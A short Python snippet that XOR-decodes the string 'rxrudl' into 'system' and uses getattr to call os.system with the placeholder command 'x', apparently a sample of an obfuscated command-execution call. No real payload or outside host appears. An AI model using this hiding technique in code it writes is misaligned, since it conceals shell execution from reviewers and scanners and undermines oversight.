def d(s, k):
    out = ""
    for c in s:
        out += chr(ord(c) ^ k)
    return out


import os
getattr(os, d("rxrudl", 1))("x")
